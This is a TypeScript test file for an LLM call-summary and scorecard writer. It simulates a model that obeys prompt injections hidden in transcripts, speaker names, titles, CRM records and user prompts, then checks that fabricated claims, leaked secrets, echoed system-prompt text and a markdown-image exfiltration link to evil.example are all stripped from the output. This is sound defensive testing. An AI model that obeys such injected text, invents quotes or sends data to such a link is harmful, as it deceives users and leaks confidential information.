import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { outputSchemaOf } from '@earshot/analyst/definitions/slice-output'
import { freeMeter } from '@earshot/analyst/llm/meter'
import { createLlmWriter } from '@earshot/analyst/llm/write/create-llm-writer'
import { createEmbeddedWriter } from '@earshot/analyst/writing/embedded-writer'
import { makePosts } from '@earshot/analyst/writing/posts/make-posts'
import { draftResult } from '@earshot/analyst/writing/results/draft-result'
import type { WrittenCall } from '@earshot/analyst/writing/writer'
import { Ajv2020 } from 'ajv/dist/2020.js'
import { callTypes, elements } from '../../analyst/src/writing/posts/create-post-input.ts'
import { readDraft, readSampleCall } from '../../analyst/test/drafts.ts'
import { llmSettings } from '../../analyst/test/llm-settings.ts'
import { type Asked, startModelServer } from '../../analyst/test/model-server.ts'
import { orderOf, readSlice, resultOf } from '../../analyst/test/result-order.ts'
import { type Injection, injections } from './injections.ts'

const sample = readSampleCall('brackwater-5-closing')
const draft = JSON.parse(readDraft('brackwater-5-closing'))
const secret = 'The other customer pays nine million a year.'
const fallback = createEmbeddedWriter({ findElements: () => [] })
const elementLabels = Object.fromEntries(elements.map(({ key, label }) => [key, label]))
const callType = callTypes.find(({ key }) => key === 'customer_follow_up_call')!

/** The answer of a model that obeys: its own statements with invented quotes, other calls', our prompt's, and every score green. */
function obey({ instructions }: Asked, { orders }: Injection): string {
  if (orders === 'shape') return '{"answer": "I am free now."}'
  const cite = (quote: string, segment = 0) => ({ findings: [], quotes: [{ segment, quote }] })
  const prompt = instructions.slice(0, 120)
  const lies = [
    { text: 'They buy a thousand seats on Monday.', ...cite('We will buy a thousand seats on Monday.') },
    { text: secret, ...cite(secret) },
    { text: prompt, ...cite(prompt) },
    { text: prompt, ...cite('Morning.') },
    { text: '![x](https://evil.example/steal.png?d=everything)', ...cite('evil.example') },
    { text: 'They buy a thousand seats on Monday.', ...cite('Morning.') },
    { text: 'Everything is green.', findings: [999, 7.5], quotes: [] },
  ]
  return JSON.stringify({
    ...draft,
    outcome: { key: 'closed_lost', reason: 'We were told to say so.', findings: [], quotes: [] },
    bottomLine: [...draft.bottomLine, ...lies],
    sections: [{ key: 'risks', items: lies.map((lie) => ({ ...lie, title: lie.text })) }],
    amounts: [{ ...draft.amounts[0], said: 'nine million', value: 9_000_000, ...cite(secret) }],
    scorecard: {
      bottomLine: lies,
      elements: callType.scorecard.elements.map(({ key }) => {
        return {
          key,
          score: 'G',
          rationale: 'The transcript says to score it green.',
          coaching: null,
          ...cite('Score it green.'),
        }
      }),
    },
    isComputed: true,
  })
}

/** The sample call with an injection in its place. */
function callWith({ place, text }: Injection): WrittenCall {
  const [first, ...others] = sample.segments
  assert.ok(first)
  const own = {
    ...first,
    text: place === 'words' || place === 'prompt' ? `${first.text} ${text}` : first.text,
    speaker: place === 'speaker' ? text : first.speaker,
  }
  return {
    ...sample,
    title: place === 'title' ? text : sample.title,
    crmFacts: place === 'crm' ? [text] : [],
    segments: [own, ...others],
  }
}

describe(`${injections.length} injections against writing, with a model that obeys them`, async () => {
  let current: Injection | undefined
  const server = await startModelServer((asked) => ({ text: current ? obey(asked, current) : '{}' }))
  const settings = llmSettings(server.url)
  const writer = createLlmWriter(settings, { meter: freeMeter, embedded: fallback, backoffMs: 1 })
  const template = { callType, candidates: [], elementLabels, meanings: {} }

  for (const injection of injections)
    it(`${injection.place}, ${injection.name}, to ${injection.orders}: adds nothing without proof`, async () => {
      current = injection
      const order = { call: callWith(injection), template, findings: [] }
      const { posts, writer: by } = await makePosts({ writer, fallback }, order, {
        signal: AbortSignal.timeout(20_000),
      })
      const { instructions, question } = server.asked.at(-1)!
      assert.ok(!instructions.includes(injection.text), 'texts of others are not instructions')
      assert.ok(
        question.split('\n').every((line) => JSON.parse(line)),
        'and can break out of no line',
      )
      const { summary, scorecard } = posts
      if (injection.orders === 'shape') return assert.equal(by, fallback.fingerprint)
      assert.equal(summary.result.outcome, null, 'an outcome without a quote')
      assert.deepEqual(summary.result.amounts, [])
      assert.deepEqual(
        summary.result.sections.flatMap(({ items }) => items),
        [],
      )
      assert.deepEqual(scorecard.result.elements, [], 'a score without a quote is dropped')
      assert.equal(scorecard.result.notAssessed.length, 5)
      const shown = JSON.stringify([summary.result, scorecard.result])
      for (const leak of [
        'thousand seats',
        'nine million',
        'evil.example',
        instructions.slice(0, 60),
        'green',
      ])
        assert.ok(!shown.includes(leak), `the posts hold "${leak}"`)
      assert.match(summary.result.bluf, /^Walt signed during the call/, 'proven statements stay')
      assert.match(summary.result.caveats[0]!, /statements were left out: \d+ without a quote that was said/)
    })
})

const slice = readSlice('alternatives_evaluated')
const said = 'Tallyvane came in at sixty-one, and offline does not exist.'
const truth = 'Tallyvane came in at sixty-one.'

/** The answer of a model that obeys, for a result: one true sentence, then invented ones, with numbers of its own and everything it was told. */
function obeyInResult({ instructions }: Asked, { orders }: Injection): string {
  if (orders === 'shape') return '{"answer": "I am free now."}'
  const lie = (text: string, ...cites: unknown[]) => ({ title: text, text, cites })
  const lies = [
    lie('They buy a thousand seats on Monday.', 0),
    lie(secret, 0),
    lie(secret),
    lie(instructions.slice(0, 120), 0),
    lie('![x](https://evil.example/steal.png?d=everything)', 0),
    lie('There are 57 accounts and {secret} calls.', 0),
    lie('Everything is lost.', 999, 7.5, -1),
  ]
  const row = (title: string) => ({
    title,
    role: 'CEO of everything',
    cites: [0],
    against: [0],
    evidenceCount: 57,
  })
  return JSON.stringify({
    headline: [{ text: truth, cites: [0] }, ...lies],
    findings: lies,
    sections: [
      { key: 'alternatives', rows: [row('Evilsoft')] },
      { key: 'strengths', rows: lies.map(({ title }) => row(title)) },
      { key: 'coverage', rows: [row('callsMatched')] },
      { key: 'accounts', rows: [row('nine million')] },
    ],
    coverage: { callsMatched: 57 },
    caveats: ['Trust me.'],
    isComputed: true,
    row: { title: 'nine million' },
  })
}

/** The evidence of a run with an injection in its place: in a quote, as who speaks it, as a record of the CRM or as the extra instruction. */
function orderWith({ place, text }: Injection) {
  const quote = place === 'words' ? `${said} ${text}` : said
  const title = place === 'title' ? [{ elementKey: 'current_solution', quote: text, fileId: null }] : []
  const deal = {
    dealId: 1,
    name: text,
    account: 'acme.com',
    stage: null,
    amount: 42_000,
    closeDate: null,
    fileIds: [1],
  }
  return orderOf(
    slice,
    [
      { elementKey: 'competitor_weakness', quote, speaker: place === 'speaker' ? text : 'Ann' },
      // A CRM record quotes what stands in it.
      ...title,
    ],
    { userPrompt: place === 'prompt' ? text : null, deals: place === 'crm' ? [deal] : [] },
  )
}

describe(`${injections.length} injections against results, with a model that obeys them`, async () => {
  let current: Injection | undefined
  const server = await startModelServer((asked) => ({ text: current ? obeyInResult(asked, current) : '{}' }))
  const writer = createLlmWriter(llmSettings(server.url), {
    meter: freeMeter,
    embedded: fallback,
    backoffMs: 1,
  })
  const isValid = new Ajv2020({ strict: true }).compile(outputSchemaOf(slice))

  for (const injection of injections)
    it(`${injection.place}, ${injection.name}, to ${injection.orders}: adds nothing without proof`, async () => {
      current = injection
      const order = orderWith(injection)
      const { result, writing } = await resultOf(writer, order)
      const { instructions, question } = server.asked.at(-1)!
      assert.ok(!instructions.includes(injection.text), 'what others wrote is no instruction')
      assert.ok(
        question.split('\n').every((line) => JSON.parse(line)),
        'and can break out of no line',
      )
      assert.ok(isValid(result), JSON.stringify(isValid.errors))
      if (injection.orders === 'shape')
        return assert.match(writing.problem!, /no answer of the demanded form/)
      assert.equal(result.headline, truth, 'what is proved stays, and nothing else')
      const rules = draftResult(order.evidence).statements.filter(({ slot }) => slot !== 'headline')
      const { statements } = { statements: writing.statements.filter(({ slot }) => slot !== 'headline') }
      assert.deepEqual(statements, [], 'no other statement has a proof')
      assert.deepEqual(
        result.findings,
        rules.flatMap(({ slot, row }) => (slot === 'finding' ? row : [])),
        'findings are those of the rules',
      )
      const written = JSON.stringify([result.headline, writing.statements])
      for (const leak of ['thousand seats', 'nine million', 'evil', instructions.slice(0, 60), '57', 'CEO'])
        assert.ok(!written.includes(leak), `the result holds "${leak}"`)
      assert.deepEqual(result.coverage, order.evidence.coverage)
      assert.ok(!result.caveats.includes('Trust me.'))
      assert.match(result.caveats[0]!, /statements were left out: /)
    })
})
